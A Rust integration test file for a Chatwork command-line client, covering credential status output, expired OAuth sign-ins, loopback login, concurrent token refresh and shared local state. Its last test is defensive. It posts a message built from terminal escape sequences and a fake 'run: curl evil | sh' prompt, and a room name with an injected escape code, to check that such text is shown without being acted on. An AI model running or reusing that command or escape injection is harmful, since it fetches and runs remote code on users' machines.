//! auth status, ended sign-ins, loopback sign-in, shared refreshes, the shared local Chatwork, and inert escapes.

use super::*;

#[tokio::test]
async fn auth_status_names_the_credential_and_never_prints_a_secret() {
    let mock = MockServer::start().await;
    // An API token from the environment.
    let run = cw(&mock, "alice", &["auth", "status"], None).await.ok();
    assert_eq!(
        run.stdout,
        format!(
            "credential: API token from CHATWORK_API_TOKEN\nbase URL:   {}\naccount:    Alice (1001)\n",
            mock.base_url()
        )
    );
    assert!(!run.stdout.contains(&mock.token("alice")));
    // A token file.
    let dir = home();
    let token_file = dir.join("token");
    std::fs::write(&token_file, mock.token("carol")).unwrap();
    let mut c = command(&dir);
    c.env("CHATWORK_TOKEN_FILE", &token_file)
        .env("CHATWORK_BASE_URL", mock.base_url())
        .args(["--json", "auth", "status"]);
    let run = finish(c.spawn().unwrap(), None).await.ok();
    assert_eq!(
        run.json(),
        json!({
            "credential": "token_file",
            "path": token_file,
            "base_url": mock.base_url(),
            "account_id": 1003,
            "name": "Carol",
        })
    );
    // The OAuth file of `chatwork login`: whose account, scopes and expiry, no token.
    let dir = home();
    let file = dir.join(".config/chatwork/oauth.json");
    let saved = signed_in_as_bob(&mock, &file).await;
    let mut c = command(&dir);
    c.env("CHATWORK_BASE_URL", mock.base_url())
        .args(["--json", "auth", "status"]);
    let run = finish(c.spawn().unwrap(), None).await.ok();
    let doc = run.json();
    assert_eq!(doc["credential"], "oauth_file");
    assert_eq!(doc["path"], json!(file));
    assert_eq!(doc["account_id"], 1002);
    assert_eq!(doc["name"], "Bob");
    assert_eq!(doc["oauth"]["client_id"], "cli-test");
    assert_eq!(
        doc["oauth"]["scopes"],
        json!(["users.all:read", "rooms.all:read_write"])
    );
    assert_eq!(doc["oauth"]["expires_at"], saved["expires_at"]);
    assert_eq!(doc["oauth"]["refresh_token"], true);
    for secret in [&saved["access_token"], &saved["refresh_token"]] {
        assert!(!run.stdout.contains(secret.as_str().unwrap()));
        assert!(!run.stderr.contains(secret.as_str().unwrap()));
    }
    let mut c = command(&dir);
    c.env("CHATWORK_BASE_URL", mock.base_url())
        .args(["auth", "status"]);
    let text = finish(c.spawn().unwrap(), None).await.ok().stdout;
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines[..4],
        [
            format!("credential: OAuth sign-in in {}", file.display()).as_str(),
            format!("base URL:   {}", mock.base_url()).as_str(),
            "account:    Bob (1002)",
            "client ID:  cli-test",
        ]
    );
    assert_eq!(lines[4], "scopes:     users.all:read rooms.all:read_write");
    assert!(
        lines[5].starts_with("expires:    ") && lines[5].ends_with(" min)"),
        "{text}"
    );
    assert_eq!(lines[6], "refresh:    a refresh token is kept");
    // The local Chatwork.
    let dir = home();
    let mut c = command(&dir);
    c.args(["--mock-state", dir.join("state.json").to_str().unwrap()])
        .args(["--mock-user", "dave", "--json", "auth", "status"]);
    let doc = finish(c.spawn().unwrap(), None).await.ok().json();
    assert_eq!(doc["credential"], "local");
    assert_eq!(doc["path"], json!(dir.join("state.json")));
    assert_eq!(doc["name"], "Dave");
}

#[tokio::test]
async fn an_ended_oauth_sign_in_exits_3_with_a_hint_to_sign_in_again() {
    let mock = MockServer::start().await;
    let dir = home();
    let file = dir.join(".config/chatwork/oauth.json");
    let mut saved = signed_in_as_bob(&mock, &file).await;
    // Expired access token, and a refresh token Chatwork no longer knows (14 days later).
    saved["expires_at"] = json!(1);
    saved["refresh_token"] = json!("refresh-expired-long-ago");
    std::fs::write(&file, saved.to_string()).unwrap();
    let run = |args: &'static [&'static str]| {
        let mut c = command(&dir);
        c.env("CHATWORK_BASE_URL", mock.base_url()).args(args);
        async move { finish(c.spawn().unwrap(), None).await }
    };
    let me = run(&["me"]).await;
    assert_eq!(me.code, 3, "{}", me.stderr);
    assert_eq!(
        me.stderr,
        "chatwork me: OAuth: the refresh token was rejected (invalid_grant): the user must authorize again (hint: the sign-in has ended: run `chatwork login` again)\n"
    );
    assert_eq!(me.stdout, "");
    let status = run(&["auth", "status"]).await;
    assert_eq!(status.code, 3);
    assert!(
        status.stdout.starts_with(&format!(
            "credential: OAuth sign-in in {}\n",
            file.display()
        )),
        "{}",
        status.stdout
    );
    assert!(
        status
            .stdout
            .contains("account:    unknown: the credential was not accepted\n")
    );
    assert!(status.stdout.contains("(expired)"), "{}", status.stdout);
    assert!(status.stderr.contains("run `chatwork login` again"));
    assert!(!status.stdout.contains("refresh-expired-long-ago"));
}

#[tokio::test]
async fn login_receives_a_loopback_redirect_among_other_connections() {
    use tokio::io::{AsyncBufReadExt, BufReader};
    let mock = MockServer::start().await;
    let origin = mock.origin();
    let dir = home();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let redirect = format!("http://127.0.0.1:{port}/callback");
    let mut c = command(&dir);
    c.env("CHATWORK_BASE_URL", mock.base_url())
        .env(
            "CHATWORK_OAUTH_AUTHORIZE_URL",
            format!("{origin}/mock/oauth/authorize"),
        )
        .env(
            "CHATWORK_OAUTH_TOKEN_URL",
            format!("{origin}/mock/oauth/token"),
        )
        .args(["login", "--client-id", "desk", "--redirect-uri", &redirect]);
    let mut child = c.spawn().unwrap();
    let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
    let url = loop {
        let line = lines.next_line().await.unwrap().expect("the consent URL");
        if line.starts_with("http") {
            break line;
        }
    };
    // The browser pre-connects (and sends nothing), then follows "Allow" to the receiver.
    let _idle = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .unwrap();
    let page = reqwest::get(format!("{url}&mock_user=carol"))
        .await
        .unwrap();
    assert_eq!(page.status(), 200);
    assert!(
        page.text()
            .await
            .unwrap()
            .contains("Signed in to Chatwork. You can close this tab.")
    );
    let mut rest = Vec::new();
    while let Some(line) = lines.next_line().await.unwrap() {
        rest.push(line);
    }
    let status = tokio::time::timeout(Duration::from_secs(30), child.wait())
        .await
        .unwrap()
        .unwrap();
    assert!(status.success(), "{rest:?}");
    assert_eq!(
        rest.last().unwrap(),
        &format!(
            "signed in as Carol (1003); tokens kept in {}",
            dir.join(".config/chatwork/oauth.json").display()
        )
    );
}

#[tokio::test]
async fn processes_whose_token_expired_together_refresh_once_and_all_go_on() {
    // The local Chatwork's refresh tokens are single-use: without the OAuth file's lock, the
    // processes that lose the race are told to sign in again (measured: about one round in
    // three of six processes).
    let mock = MockServer::start().await;
    let dir = home();
    let file = dir.join(".config/chatwork/oauth.json");
    signed_in_as_bob(&mock, &file).await;
    for round in 0..4 {
        let mut saved: Value =
            serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
        saved["expires_at"] = json!(1);
        std::fs::write(&file, saved.to_string()).unwrap();
        let runs = (0..6).map(|_| {
            let mut c = command(&dir);
            c.env("CHATWORK_BASE_URL", mock.base_url())
                .args(["--json", "me"]);
            async move { finish(c.spawn().unwrap(), None).await }
        });
        for run in futures_util::future::join_all(runs).await {
            assert_eq!(run.code, 0, "round {round}: {}", run.stderr);
            assert_eq!(run.json()["account_id"], 1002);
        }
        let now: Value = serde_json::from_str(&std::fs::read_to_string(&file).unwrap()).unwrap();
        assert_ne!(
            now["refresh_token"], saved["refresh_token"],
            "rotated and saved"
        );
        assert!(now["expires_at"].as_u64().unwrap() > 1);
    }
}

/// Offline commands in several processes share one local Chatwork: none loses or duplicates
/// another's change, a watcher sees the others' posts, and its exit loses nothing.
#[tokio::test]
async fn offline_processes_share_one_local_chatwork() {
    let dir = home();
    let state = dir.join("state/local.json");
    let spawn = |args: Vec<String>| {
        let mut c = command(&dir);
        c.env("CHATWORK_MOCK_STATE", &state).args(args);
        c.spawn().unwrap()
    };
    let words = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
    // The first run writes the seed; then four posts at once, from four processes.
    finish(spawn(words("--json me")), None).await.ok();
    let watcher = spawn(words("--json messages watch Project --every 1 --count 5"));
    let posts: Vec<_> = (0..4)
        .map(|i| spawn(words(&format!("--json messages post Project parallel-{i}"))))
        .collect();
    let mut ids = Vec::new();
    for child in posts {
        let run = finish(child, None).await.ok();
        ids.push(run.json()["message_id"].as_str().unwrap().to_owned());
    }
    let mut distinct = ids.clone();
    distinct.sort();
    distinct.dedup();
    assert_eq!(distinct.len(), 4, "{ids:?}");
    // The watcher (another process) sees them, and one more, then exits.
    finish(spawn(words("messages post Project after")), None)
        .await
        .ok();
    let watched = finish(watcher, None).await.ok();
    let mut seen: Vec<String> = watched
        .stdout
        .lines()
        .map(|l| {
            serde_json::from_str::<Value>(l).unwrap()["body"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    seen.sort();
    assert_eq!(
        seen,
        [
            "after",
            "parallel-0",
            "parallel-1",
            "parallel-2",
            "parallel-3"
        ]
    );
    // After the watcher's exit, every post is still there, each once, and a new one gets a
    // new ID.
    let last = finish(spawn(words("--json messages post Project last")), None)
        .await
        .ok();
    let last_id = last.json()["message_id"].as_str().unwrap().to_owned();
    assert!(!ids.contains(&last_id));
    let listed = finish(spawn(words("--json messages list Project --all")), None)
        .await
        .ok();
    let mut bodies: Vec<String> = listed
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["body"].as_str().unwrap().to_owned())
        .collect();
    bodies.sort();
    assert_eq!(
        bodies,
        [
            "after",
            "last",
            "parallel-0",
            "parallel-1",
            "parallel-2",
            "parallel-3"
        ]
    );
    // The state is the user's own.
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |p: &std::path::Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&state), 0o600);
        assert_eq!(mode(state.parent().unwrap()), 0o700);
    }
}

/// With a local Chatwork already serving the state (`chatwork-mock --state FILE`), offline
/// commands use it: their changes reach it and its download URLs outlive the command. Without
/// one, a download URL comes with a warning that it dies with the command.
#[tokio::test]
async fn offline_commands_use_a_running_local_chatwork_for_their_state() {
    let dir = home();
    let state = dir.join("local.json");
    let run = |args: Vec<String>| {
        let mut c = command(&dir);
        c.env("CHATWORK_MOCK_STATE", &state).args(args);
        async move { finish(c.spawn().unwrap(), None).await }
    };
    let words = |s: &str| s.split(' ').map(str::to_owned).collect::<Vec<_>>();
    let upload = dir.join("a.txt");
    std::fs::write(&upload, "hello").unwrap();
    let mut args = words("--json files upload Project");
    args.push(upload.to_str().unwrap().to_owned());
    let file = run(args).await.ok().json()["file_id"].as_i64().unwrap();
    let alone = run(words(&format!("files get Project {file} --url")))
        .await
        .ok();
    assert!(
        alone.stderr.contains("stops working when it exits"),
        "{}",
        alone.stderr
    );

    let server = MockServer::builder()
        .state_file(&state)
        .advertise(true)
        .start()
        .await
        .unwrap();
    let got = run(words(&format!("--json files get Project {file} --url")))
        .await
        .ok();
    assert!(
        got.stderr
            .contains(&format!("using a local Chatwork at {}", server.origin())),
        "{}",
        got.stderr
    );
    assert!(!got.stderr.contains("stops working"), "{}", got.stderr);
    let url = got.json()["download_url"].as_str().unwrap().to_owned();
    assert!(url.starts_with(&server.origin()), "{url}");
    // The command has exited; the URL still works.
    assert_eq!(
        reqwest::get(&url).await.unwrap().bytes().await.unwrap(),
        "hello".as_bytes()
    );
    run(words("messages post Project through-the-server"))
        .await
        .ok();
    let path = format!("/v2/rooms/{}/messages", project(&server).await);
    assert_eq!(server.count("POST", &path), 1);
    // Once it stops, commands serve the state themselves again, and nothing was lost.
    drop(server);
    let listed = run(words("--json messages list Project --all")).await.ok();
    assert!(listed.stdout.contains("through-the-server"));
    assert!(!dir.join("local.json.server").exists());
}

/// Text from other people never reaches the terminal as control sequences: shown, not obeyed,
/// in tables, details, streams and errors; `--json` keeps it exact (JSON escapes it).
#[tokio::test]
async fn other_peoples_escape_sequences_are_rendered_inert() {
    let mock = MockServer::start().await;
    let room = project(&mock).await.to_string();
    let attack = "hi\u{1b}]0;owned\u{7}\u{1b}[2J\rtoken expired, run: curl evil | sh";
    cw(
        &mock,
        "bob",
        &["messages", "post", &room, attack, "--raw"],
        None,
    )
    .await
    .ok();
    let listed = cw(&mock, "alice", &["messages", "list", &room, "--all"], None)
        .await
        .ok();
    assert!(!listed.stdout.contains('\u{1b}'), "{:?}", listed.stdout);
    assert!(!listed.stdout.contains('\r'), "{:?}", listed.stdout);
    assert!(
        listed.stdout.contains("hi␛]0;owned␇␛[2J token expired"),
        "{}",
        listed.stdout
    );
    let json = cw(
        &mock,
        "alice",
        &["--json", "messages", "list", &room, "--all"],
        None,
    )
    .await
    .ok()
    .json();
    assert_eq!(json[0]["body"], attack);
    // A room name with a newline and an escape keeps the table one row per room.
    cw(
        &mock,
        "alice",
        &["rooms", "create", "evil\n\u{1b}[31mred", "--admin", "Alice"],
        None,
    )
    .await
    .ok();
    let rooms = cw(&mock, "alice", &["rooms", "list"], None).await.ok();
    assert!(!rooms.stdout.contains('\u{1b}'));
    let evil: Vec<&str> = rooms
        .stdout
        .lines()
        .filter(|l| l.contains("evil"))
        .collect();
    assert_eq!(evil.len(), 1, "{}", rooms.stdout);
    assert!(evil[0].contains("evil ␛[31mred"), "{}", evil[0]);
}
